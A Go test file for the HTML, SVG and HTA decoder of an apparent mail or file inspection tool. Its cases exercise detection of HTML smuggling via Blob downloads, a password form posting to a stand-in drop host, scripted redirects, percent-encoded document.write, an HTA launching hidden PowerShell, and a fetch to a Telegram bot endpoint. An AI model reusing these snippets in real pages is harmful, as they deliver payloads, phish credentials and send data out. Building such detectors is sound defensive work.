package page_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"sluice/inspect"
	"sluice/inspect/child/childtest"
	"sluice/inspect/child/document/documenttest"
	"sluice/inspect/child/document/page"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func numbers(s string) string {
	var out []string
	for _, c := range []byte(s) {
		out = append(out, fmt.Sprint(c))
	}
	return strings.Join(out, ",")
}

func TestCarriersAndTwins(t *testing.T) {
	inert := "PK\x03\x04 an inert archive " + strings.Repeat("\x00\xFF inert ", 120)
	login := `<form action="https://drop.example/p.php"><input type=email><input type=password></form>`
	documenttest.Run(t, page.Decoder{}, []documenttest.Case{
		{Name: "letter", Type: "html", Body: `<html><body><h1>Report</h1><p>Download the file and click the button.</p><a href="https://example.org/r">here</a><img src="cid:1"></body></html>`, Want: []string{"link anchor https://example.org/r"}},
		{Name: "smuggled file", Type: "html", Body: `<script>var d=atob("` + b64(inert) + `");var b=new Blob([d],{type:"octet/stream"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="bill.zip";a.click();</script>`, Want: []string{
			"PAGE_SCRIPT script", "PAGE_BUILDS_FILE new blob, createobjecturl, download", "PAGE_CLICKS click()", fmt.Sprintf("PAGE_LITERAL %d characters of base64", len(b64(inert))), fmt.Sprintf("file bill.zip zip %d", len(inert))}},
		{Name: "chart that saves itself", Type: "html", Body: `<script>var rows=[1,2,3]; draw(rows); function draw(r){ document.getElementById("c").textContent = r.join(); }</script>`, Want: []string{"PAGE_SCRIPT script"}},
		{Name: "smuggled as numbers", Type: "html", Body: `<script>var x=new Uint8Array([` + numbers(inert) + `]);navigator.msSaveOrOpenBlob(new Blob([x]),"bill.iso")</script>`, Has: []string{
			"PAGE_SCRIPT script", "PAGE_BUILDS_FILE new blob, mssaveoropenblob", fmt.Sprintf("PAGE_LITERAL %d numbers", len(inert)), fmt.Sprintf("file bill.iso iso %d", len(inert))}},
		{Name: "smuggled in pieces", Type: "html", Body: `<script>var d="` + b64(inert)[:600] + `"+"` + b64(inert)[600:] + `"; var a=new Blob([atob(d)]); x.setAttribute("download","bill.zip"); URL.createObjectURL(a)</script>`, Has: []string{fmt.Sprintf("file bill.zip zip %d", len(inert))}},
		{Name: "data in an anchor", Type: "html", Body: `<a download="bill.js" href="data:text/javascript;base64,` + b64("WScript.Echo(1)") + `">bill</a>`, Want: []string{"file bill.js js 15"}},
		{Name: "picture in the page", Type: "html", Body: `<img src="data:image/png;base64,` + b64(inert) + `">`, Clean: true},
		{Name: "page written by itself", Type: "html", Body: `<script>document.write(unescape("` + percent(login+strings.Repeat(" ", 400)) + `"))</script>`, Has: []string{
			"PAGE_WRITES_ITSELF unescape, document.write", "CODE_OBFUSCATED percent-encoded", "PAGE_PASSWORD https://drop.example/p.php", "link form https://drop.example/p.php"}},
		{Name: "login page", Type: "html", Body: login, Want: []string{"PAGE_PASSWORD https://drop.example/p.php", "link form https://drop.example/p.php"}},
		{Name: "survey", Type: "html", Body: `<form action="https://example.org/s"><input type=text></form>`, Want: []string{"link form https://example.org/s"}},
		{Name: "refresh", Type: "html", Body: `<meta http-equiv="Refresh" content="0; URL='https://drop.example/'">`, Want: []string{"PAGE_REDIRECTS refresh: https://drop.example/", "link auto https://drop.example/"}},
		{Name: "charset", Type: "html", Body: `<meta http-equiv="Content-Type" content="text/html; charset=utf-8">`, Clean: true},
		{Name: "redirect by script", Type: "html", Body: `<body onload="window.location.href = 'https://drop.example/' + user">`, Want: []string{
			"PAGE_SCRIPT body onload", "PAGE_REDIRECTS location.href: 'https://drop.example/' + user", "link script https://drop.example/"}},
		{Name: "asks where it is", Type: "html", Body: `<script>if (location.href == x) y()</script>`, Want: []string{"PAGE_SCRIPT script"}},
		{Name: "frame of data", Type: "html", Body: `<iframe src="data:text/html;base64,` + b64(login) + `"></iframe>`, Has: []string{"PAGE_PASSWORD https://drop.example/p.php", fmt.Sprintf("file data html %d", len(login))}},
		{Name: "frame of text", Type: "html", Body: `<iframe srcdoc="&lt;script>x()&lt;/script>"></iframe>`, Has: []string{"PAGE_FRAME srcdoc", "PAGE_SCRIPT script"}},
		{Name: "picture that runs", Type: "svg", Body: `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location.replace("https://drop.example/")]]></script></svg>`, Has: []string{"PAGE_SCRIPT script", `PAGE_REDIRECTS location.replace: "https://drop.example/")]]>`}},
		{Name: "picture that animates code", Type: "svg", Body: `<svg><a><set attributeName="href" to="javascript:x()"/></a></svg>`, Has: []string{"PAGE_SCRIPT set to"}},
		{Name: "picture", Type: "svg", Body: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>`, Clean: true},
		{Name: "address that is code", Type: "html", Body: "<a href=\"java\nscript:evil()\">x</a><a href=\"javascript:void(0)\">y</a>", Want: []string{"PAGE_SCRIPT a href"}},
		{Name: "application", Type: "hta", Body: `<script language="VBScript">Set s = CreateObject("WScript.Shell"): s.Run "powershell -w hidden"</script>`, Want: []string{"PAGE_SCRIPT script", "CODE_RUNS wscript.shell", "CODE_RUNS createobject(\"wscript", "CODE_RUNS powershell", "CODE_EVADES -w hidden"}},
		{Name: "renamed", Type: "html", Body: "<script>" + strings.Repeat("var _0x4fa2=1;", 40) + "</script>", Want: []string{"PAGE_SCRIPT script", "CODE_OBFUSCATED renamed names: 40"}},
		{Name: "linked data", Type: "html", Body: `<script type="application/ld+json">{"url":"https://example.org/","fetch(":1}</script>`, Clean: true},
		{Name: "sends", Type: "html", Body: `<script>fetch("https://api.telegram.org/bot1/sendMessage")</script>`, Want: []string{"PAGE_SCRIPT script", "PAGE_SENDS fetch, api.telegram.org", "link script https://api.telegram.org/bot1/sendMessage"}},
		{Name: "sixteen bits", Type: "html", Body: "\xFF\xFE<\x00b\x00o\x00d\x00y\x00 \x00o\x00n\x00l\x00o\x00a\x00d\x00=\x00x\x00(\x00)\x00>\x00", Want: []string{"PAGE_SCRIPT body onload"}},
	})
}

func percent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02x", c)
	}
	return b.String()
}

func TestClasses(t *testing.T) {
	for body, want := range map[string]inspect.Class{"<p>x": inspect.Page, "<p onclick=x()>": inspect.Page | inspect.ActivePage} {
		if r := childtest.One(t, page.Decoder{}, "a.html", "html", []byte(body)); r.Files[0].Class != want {
			t.Errorf("%s: %s", body, r.Files[0].Class)
		}
	}
	r := childtest.One(t, page.Decoder{}, "a.html", "html", []byte("<p>Dear <b>reader</b></p><style>x</style><script>y</script>"))
	if got := documenttest.Text(r, inspect.OriginBody); got != "Dear reader" {
		t.Errorf("%q", got)
	}
}

func TestHostile(t *testing.T) {
	for name, body := range map[string]string{
		"tags":            strings.Repeat("<a><b>", 1<<18),
		"attributes":      "<a " + strings.Repeat("onx=1 ", 1<<17) + ">",
		"quotes":          "<script>" + strings.Repeat(`"'`, 1<<19),
		"backslashes":     `<script>"` + strings.Repeat(`\`, 1<<20),
		"frames in data":  "<iframe src=\"" + nested(12) + "\">",
		"many literals":   "<script>new Blob(x).download;" + strings.Repeat(`y("`+strings.Repeat("QUJD", 20)+`");`, 5000) + "</script>",
		"lists":           "<script>" + strings.Repeat("[", 1<<19) + strings.Repeat("1,", 1<<19),
		"locations":       "<script>" + strings.Repeat("location=", 1<<17),
		"comment":         "<!--" + strings.Repeat("-", 1<<20),
		"script not over": "<script>" + strings.Repeat("a", 1<<20),
	} {
		t.Run(name, func(t *testing.T) {
			r := childtest.One(t, page.Decoder{}, "a.html", "html", []byte(body))
			if childtest.Has(r, inspect.DecoderPanic, "") || r.Exhausted.Has(inspect.LimitTime) {
				t.Error(r.Facts, r.Exhausted)
			}
		})
	}
}

func nested(n int) string {
	s := "x"
	for range n {
		s = "data:text/html;base64," + b64(`<iframe src="`+s+`">`)
	}
	return s
}

func FuzzOpen(f *testing.F) {
	f.Add([]byte("<meta http-equiv=refresh content=\"" + strings.Repeat("\u023a", 20) + "url\">"))
	f.Add([]byte(`<script>var a=new Blob([atob("` + b64(strings.Repeat("inert", 20)) + `")]);a.download="x.zip";location.replace("http://a.example")</script>`))
	f.Add([]byte(`<meta http-equiv=refresh content="0;url=data:text/html,<a href=javascript:x()>"><iframe srcdoc="&lt;b>"><svg:script>[1,2,0x3]</svg:script>`))
	f.Fuzz(func(t *testing.T, b []byte) { childtest.Bytes(t, page.Decoder{}, "html", b) })
}

func BenchmarkOpen(b *testing.B) {
	body := []byte("<html><body>" + strings.Repeat("<p class=x>A line of an honest page with <a href=\"https://example.org/a\">a link</a>.</p>\n", 5000) + "<script>" + strings.Repeat("function f(a, b) { return a + b * 2; }\n", 2000) + "</script>")
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		childtest.One(b, page.Decoder{}, "a.html", "html", body)
	}
}
